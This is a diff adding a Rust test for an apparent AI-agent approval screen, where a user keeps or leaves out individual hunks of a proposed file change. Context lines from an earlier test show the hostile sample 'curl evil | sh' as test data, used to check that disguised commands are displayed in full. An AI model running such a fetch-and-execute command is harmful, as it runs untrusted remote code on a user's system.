@@ -468,3 +468,81 @@ fn a_padded_command_shows_all_it_holds() {
     assert!(screen.contains("curl evil | sh"), "{screen}");
     assert!(screen.contains("8000 blanks"), "{screen}");
 }
+
+/// A change of three hunks, as a file tool proposes it.
+fn three_hunks(id: &str) -> PendingApproval {
+    let old: String = (1..=40).map(|i| format!("line {i}\n")).collect();
+    let new = old
+        .replace("line 3\n", "line three\n")
+        .replace("line 20\n", "line twenty\n")
+        .replace("line 37\n", "line thirty-seven\n");
+    let change = crate::protocol::change::FileChange::new(
+        "src/lib.rs",
+        std::path::PathBuf::from("/w/src/lib.rs"),
+        Some(&old),
+        &new,
+    );
+    PendingApproval {
+        diff: Some(DiffView::parse(&change.unified())),
+        arguments: json!({"path": "src/lib.rs", "content": new}),
+        tool: "write_file".into(),
+        ..edit(id)
+    }
+}
+
+/// Hunk by hunk: ↓/j choose, x leaves one out (drawn struck through, the
+/// header counts what is kept), y applies the rest; all left out is a
+/// denial; `a` never grants a change cut down.
+#[test]
+fn hunks_are_chosen_left_out_and_the_rest_approved() {
+    let t0 = Instant::now();
+    let mut o = shown(vec![three_hunks("c1")], t0);
+    let t = later(t0);
+    assert!(draw(&mut o, 80, 40, t).contains("3 of 3 hunks"));
+    o.handle_key(key(KeyCode::Down), t);
+    assert_eq!(
+        o.handle_key(key(KeyCode::Char('x')), t),
+        ApprovalAction::None
+    );
+    let screen = draw(&mut o, 80, 40, t);
+    assert!(screen.contains("2 of 3 hunks"), "{screen}");
+    assert!(screen.contains("left out"), "{screen}");
+    assert_snapshot!("approval_hunk_left_out", screen);
+    assert!(matches!(
+        o.handle_key(key(KeyCode::Char('a')), t),
+        ApprovalAction::Hint(_)
+    ));
+    let ApprovalAction::Decide { decision, how, .. } =
+        o.handle_key(key(KeyCode::Char('y')), later(t))
+    else {
+        panic!("no decision");
+    };
+    assert_eq!(
+        decision,
+        ApprovalDecision::ApproveHunks { hunks: vec![0, 2] }
+    );
+    assert!(how.contains("2 of 3 hunks"), "{how}");
+    // Every hunk out: y is a denial.
+    let mut o = shown(vec![three_hunks("c2")], t0);
+    for _ in 0..3 {
+        o.handle_key(key(KeyCode::Char('x')), t);
+        o.handle_key(key(KeyCode::Char('j')), t);
+    }
+    let ApprovalAction::Decide { decision, .. } = o.handle_key(key(KeyCode::Char('y')), later(t))
+    else {
+        panic!("no decision");
+    };
+    assert!(
+        matches!(decision, ApprovalDecision::Deny { .. }),
+        "{decision:?}"
+    );
+    // x again takes a hunk back in; with all in, y approves the whole.
+    let mut o = shown(vec![three_hunks("c3")], t0);
+    o.handle_key(key(KeyCode::Char('x')), t);
+    o.handle_key(key(KeyCode::Char('x')), t);
+    let ApprovalAction::Decide { decision, .. } = o.handle_key(key(KeyCode::Char('y')), later(t))
+    else {
+        panic!("no decision");
+    };
+    assert_eq!(decision, ApprovalDecision::ApproveOnce);
+}
